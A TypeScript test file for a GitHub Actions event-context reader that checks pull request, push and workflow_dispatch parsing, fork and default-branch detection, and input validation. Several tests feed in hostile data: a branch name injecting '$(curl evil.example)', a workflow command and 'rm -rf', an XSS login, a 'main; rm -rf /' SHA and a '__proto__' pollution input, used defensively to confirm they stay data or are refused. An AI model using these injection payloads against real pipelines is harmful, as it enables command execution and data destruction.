import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ConfigurationError, ParseError } from '@gatehouse/findings';
import { gitRefsFor, pullRequestEvent, pushEvent, workflowDispatchEvent } from '@gatehouse/testing-harness';
import { describe, expect, it } from 'vitest';
import { readGitHubContext } from './read-github-context';
import { codeScanningTarget, isDefaultBranchRun, trustedConfigRef } from './run-targets';

function runnerEnv(eventName: string, payload: unknown, overrides: Record<string, string> = {}): NodeJS.ProcessEnv {
  const directory = mkdtempSync(join(tmpdir(), 'gatehouse-context-'));
  const path = join(directory, 'event.json');
  writeFileSync(path, typeof payload === 'string' ? payload : JSON.stringify(payload));
  return {
    GITHUB_EVENT_NAME: eventName,
    GITHUB_EVENT_PATH: path,
    GITHUB_REPOSITORY: 'octo-org/octo-repo',
    GITHUB_REPOSITORY_ID: '123456789',
    GITHUB_RUN_ID: '9876543210',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_JOB: 'security',
    GITHUB_WORKFLOW: 'Security',
    GITHUB_ACTOR: 'octocat',
    ...(typeof payload === 'object' && payload !== null ? gitRefsFor(eventName, payload as Record<string, unknown>) : { GITHUB_REF: 'refs/heads/main', GITHUB_SHA: 'a'.repeat(40) }),
    ...overrides,
  };
}

describe('readGitHubContext: pull requests', () => {
  it('reads base and head of a same-repository pull request, and reads policy from the base commit', () => {
    const payload = pullRequestEvent({ number: 42, base: { sha: 'b'.repeat(40) }, head: { sha: 'c'.repeat(40), ref: 'feature/x' } });
    const context = readGitHubContext(runnerEnv('pull_request', payload));
    expect(context.event).toMatchObject({
      kind: 'pull_request',
      name: 'pull_request',
      number: 42,
      isFork: false,
      base: { ref: 'main', sha: 'b'.repeat(40), repository: 'octo-org/octo-repo' },
      head: { ref: 'feature/x', sha: 'c'.repeat(40), repository: 'octo-org/octo-repo' },
    });
    expect(context.repository).toMatchObject({ owner: 'octo-org', repo: 'octo-repo', id: 123456789, defaultBranch: 'main' });
    expect(trustedConfigRef(context)).toBe('b'.repeat(40));
    expect(codeScanningTarget(context)).toEqual({ commitSha: context.sha, ref: 'refs/pull/42/merge' });
    expect(codeScanningTarget(context, { scanned: 'pull-request-head' })).toEqual({ commitSha: 'c'.repeat(40), ref: 'refs/pull/42/head' });
    expect(isDefaultBranchRun(context)).toBe(false);
  });

  it('detects a pull request from a fork, and one whose fork was deleted', () => {
    const fork = readGitHubContext(runnerEnv('pull_request', pullRequestEvent({ head: { fork: { owner: 'outsider' } } })));
    expect(fork.event).toMatchObject({ isFork: true, head: { repository: 'outsider/octo-repo' } });
    const payload = pullRequestEvent({ head: { fork: { owner: 'outsider' } } }) as { pull_request: { head: { repo: unknown } } };
    payload.pull_request.head.repo = null;
    expect(readGitHubContext(runnerEnv('pull_request', payload)).event).toMatchObject({ isFork: true, head: { repository: null } });
  });

  it('never counts pull_request_target as a default-branch run, though it runs on the base branch', () => {
    const context = readGitHubContext(runnerEnv('pull_request_target', pullRequestEvent({ head: { fork: { owner: 'outsider' } } })));
    expect(context.ref).toBe('refs/heads/main');
    expect(isDefaultBranchRun(context)).toBe(false);
    expect(trustedConfigRef(context)).toBe((context.event as { base: { sha: string } }).base.sha);
  });

  it('keeps hostile branch names and logins as data', () => {
    const hostile = 'x$(curl evil.example)\n::error::pwned`rm -rf`';
    const payload = pullRequestEvent({ head: { ref: hostile }, sender: { login: 'a' } }) as { pull_request: { user: { login: string } } };
    payload.pull_request.user.login = '<img src=x onerror=alert(1)>';
    const context = readGitHubContext(runnerEnv('pull_request', payload));
    expect(context.event).toMatchObject({ head: { ref: hostile }, author: '<img src=x onerror=alert(1)>' });
  });

  it('refuses a payload whose SHA is not a commit SHA, naming the field', () => {
    const payload = pullRequestEvent({ base: { sha: 'main; rm -rf /' } });
    const read = () => readGitHubContext(runnerEnv('pull_request', payload, { GITHUB_SHA: 'a'.repeat(40) }));
    expect(read).toThrow(ParseError);
    expect(read).toThrow(/pull_request payload: pull_request\.base\.sha: must be a 40- or 64-character hexadecimal commit SHA/);
  });

  it('refuses a payload for another repository than GITHUB_REPOSITORY', () => {
    const payload = pullRequestEvent({ repository: { owner: 'someone', name: 'else' } });
    expect(() => readGitHubContext(runnerEnv('pull_request', payload, { GITHUB_REPOSITORY: 'octo-org/octo-repo' }))).toThrow(
      /repository\.full_name "someone\/else" is not GITHUB_REPOSITORY \(octo-org\/octo-repo\)/,
    );
  });
});

describe('readGitHubContext: push and workflow_dispatch', () => {
  it('reads before, after, forced and created of a push, and knows a default-branch push', () => {
    const payload = { ...pushEvent({ before: '1'.repeat(40), after: '2'.repeat(40) }), forced: true };
    const context = readGitHubContext(runnerEnv('push', payload));
    expect(context.event).toEqual({
      kind: 'push',
      ref: 'refs/heads/main',
      before: '1'.repeat(40),
      after: '2'.repeat(40),
      created: false,
      deleted: false,
      forced: true,
      baseRef: null,
      pusher: 'octocat',
    });
    expect(isDefaultBranchRun(context)).toBe(true);
    expect(trustedConfigRef(context)).toBe('2'.repeat(40));
    expect(codeScanningTarget(context)).toEqual({ commitSha: '2'.repeat(40), ref: 'refs/heads/main' });
  });

  it('does not count a push to another branch, or the deletion of the default branch', () => {
    expect(isDefaultBranchRun(readGitHubContext(runnerEnv('push', pushEvent({ ref: 'refs/heads/feature' }))))).toBe(false);
    expect(isDefaultBranchRun(readGitHubContext(runnerEnv('push', { ...pushEvent(), deleted: true })))).toBe(false);
    expect(isDefaultBranchRun(readGitHubContext(runnerEnv('push', pushEvent({ ref: 'refs/tags/main' }))))).toBe(false);
  });

  it('reads workflow_dispatch inputs into a Map, a "__proto__" input included, without touching prototypes', () => {
    const payload = workflowDispatchEvent({ inputs: { reason: 'hotfix', dry: true, count: 3 } });
    const text = JSON.stringify(payload).replace('"inputs":{', '"inputs":{"__proto__":{"polluted":"yes"},"constructor":"c",');
    expect(() => readGitHubContext(runnerEnv('workflow_dispatch', text))).toThrow(/inputs\.__proto__: must be text, a number or a boolean/);

    const safe = JSON.stringify(payload).replace('"inputs":{', '"inputs":{"__proto__":"p","constructor":"c",');
    const context = readGitHubContext(runnerEnv('workflow_dispatch', safe, { GITHUB_REF: 'refs/heads/main', GITHUB_SHA: 'a'.repeat(40) }));
    const inputs = context.event.kind === 'workflow_dispatch' ? context.event.inputs : new Map();
    expect([...inputs]).toEqual([
      ['__proto__', 'p'],
      ['constructor', 'c'],
      ['reason', 'hotfix'],
      ['dry', 'true'],
      ['count', '3'],
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(isDefaultBranchRun(context)).toBe(true);
  });
});

describe('readGitHubContext: the environment', () => {
  it('says what is missing outside GitHub Actions', () => {
    expect(() => readGitHubContext({})).toThrow(ConfigurationError);
    expect(() => readGitHubContext({})).toThrow(/GITHUB_EVENT_NAME is not set/);
  });

  it('refuses a payload that is not JSON, and a GITHUB_SHA that is not a SHA', () => {
    expect(() => readGitHubContext(runnerEnv('push', '{"ref":'))).toThrow(/event payload is not JSON/);
    expect(() => readGitHubContext(runnerEnv('push', pushEvent(), { GITHUB_SHA: 'HEAD' }))).toThrow(/GITHUB_SHA: "HEAD" is not a commit SHA/);
  });

  it('reads other events by name, with the repository when the payload has one', () => {
    const context = readGitHubContext(runnerEnv('schedule', { schedule: '0 3 * * *' }, { GITHUB_REF: 'refs/heads/main', GITHUB_SHA: 'd'.repeat(40) }));
    expect(context.event).toEqual({ kind: 'other', name: 'schedule' });
    // GitHub runs schedules on the default branch, so the ledger may be written though the payload has no repository.
    expect(isDefaultBranchRun(context)).toBe(true);
    const dispatch = readGitHubContext(runnerEnv('repository_dispatch', { action: 'x' }, { GITHUB_REF: 'refs/heads/main', GITHUB_SHA: 'd'.repeat(40) }));
    expect(isDefaultBranchRun(dispatch)).toBe(false);
  });
});
